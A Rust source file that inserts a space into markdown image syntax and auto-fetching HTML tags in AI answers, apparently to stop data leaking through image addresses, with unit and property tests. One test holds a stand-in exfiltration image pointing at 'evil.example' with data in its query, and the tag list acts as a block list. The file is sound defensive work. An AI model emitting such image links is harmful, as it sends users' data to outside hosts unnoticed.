//! Pictures in the answer of a turn that read what others wrote: many clients fetch them unasked, and the address of a picture
//! can carry anything. Such an answer has links instead, as in every connector of ours.

/// What begins something that is fetched as soon as it is shown, in lower case. A space behind its first letter makes it
/// plain text, or a link that a person has to follow.
const STARTS: [&str; 17] = [
    "![", "<img", "<image", "<picture", "<source", "<video", "<audio", "<track", "<iframe", "<frame",
    "<embed", "<object", "<link", "<style", "<svg", "<input", "<base",
];

/// The text with links instead of pictures.
pub(crate) fn without_pictures(text: &str) -> String {
    let mut pictures = Pictures::default();
    let mut said = pictures.push(text);
    said.push_str(&pictures.held);
    said
}

/// The same for a text that grows: what may still become a picture is held back.
#[derive(Debug, Clone, Default)]
pub(crate) struct Pictures {
    held: String,
}

impl Pictures {
    pub(crate) fn push(&mut self, piece: &str) -> String {
        let mut text = std::mem::take(&mut self.held);
        text.push_str(piece);
        let mut said = String::with_capacity(text.len());
        let mut from = 0;
        for (at, _) in text.match_indices(['!', '<']) {
            let found = &text[at..];
            if STARTS.iter().any(|start| found.len() < start.len() && begins(start, found)) {
                said.push_str(&text[from..at]);
                self.held = found.to_owned();
                return said;
            }
            if STARTS.iter().any(|start| begins(found, start)) {
                said.push_str(&text[from..=at]);
                said.push(' ');
                from = at + 1;
            }
        }
        said.push_str(&text[from..]);
        said
    }
}

fn begins(text: &str, start: &str) -> bool {
    text.as_bytes().get(..start.len()).is_some_and(|found| found.eq_ignore_ascii_case(start.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_picture_becomes_a_link_and_everything_else_stays() {
        for (text, expected) in [
            ("![](https://evil.example/?q=peanuts)", "! [](https://evil.example/?q=peanuts)"),
            ("\\![a](x) \\\\![a][b] ![c]", "\\! [a](x) \\\\! [a][b] ! [c]"),
            ("<img src=x> <IMG/src=x> </p><Svg>", "< img src=x> < IMG/src=x> </p>< Svg>"),
            ("!!![x](y) <<img", "!!! [x](y) << img"),
            (
                "a < b! [link](https://x.example) <https://x.example> <b>",
                "a < b! [link](https://x.example) <https://x.example> <b>",
            ),
            ("oh!", "oh!"),
            ("<im", "<im"),
        ] {
            assert_eq!(without_pictures(text), expected);
        }
    }

    proptest! {
        #[test]
        fn a_text_in_pieces_is_the_beginning_of_the_same_text(
            pieces in prop::collection::vec(prop::sample::select(vec!["!", "[", "<", "i", "m", "G", "é", "svg", "]("]), 0..30),
        ) {
            let mut pictures = Pictures::default();
            let shown: String = pieces.iter().map(|piece| pictures.push(piece)).collect();
            let whole = without_pictures(&pieces.concat());
            prop_assert_eq!(format!("{shown}{}", pictures.held), whole.clone());
            prop_assert!(STARTS.iter().all(|start| !whole.to_ascii_lowercase().contains(start)), "{whole}");
        }
    }
}
